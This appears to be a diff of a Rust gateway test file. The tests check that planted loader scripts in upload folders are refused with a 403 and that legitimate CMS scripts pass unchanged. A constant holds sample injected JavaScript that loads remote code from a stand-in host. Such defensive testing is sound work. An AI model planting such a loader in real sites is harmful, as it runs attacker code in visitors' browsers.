@@ -8,13 +8,14 @@
 
 mod common;
 
-use common::gateway::{Harness, full, harness, resp};
+use common::body::{full, resp};
+use common::gateway::{Gateway, Setup};
 use common::rewrite::{clean, rule_ids as rules, site};
 
 const LOADER: &str = "var s=document.createElement('script');s.src='https://bet.test/r.js';\
 document.head.appendChild(s);";
 
-async fn assert_refused(h: &Harness, path: &str) {
+async fn assert_refused(h: &Gateway, path: &str) {
     let before = h.events_of("upload.doorway").len();
     let (head, body) = h.body(path, &[]).await;
     assert_eq!(head.status, 403, "{path}");
@@ -28,7 +29,7 @@ async fn assert_refused(h: &Harness, path: &str) {
 
 #[tokio::test]
 async fn planted_loader_script_in_an_upload_folder_is_refused() {
-    let h = harness().await;
+    let h = Setup::portal().start().await;
     let js = |ct: &'static str| move || resp(200, &[("content-type", ct)], full(LOADER));
     h.upstream.route("*", js("text/javascript"));
     h.upstream
@@ -56,7 +57,7 @@ async fn planted_loader_script_in_an_upload_folder_is_refused() {
 
 #[tokio::test]
 async fn cms_scripts_outside_upload_folders_are_served_unchanged() {
-    let h = harness().await;
+    let h = Setup::portal().start().await;
     let own = "jQuery(function($){$('.menu').show()});";
     h.upstream.route("*", move || {
         resp(
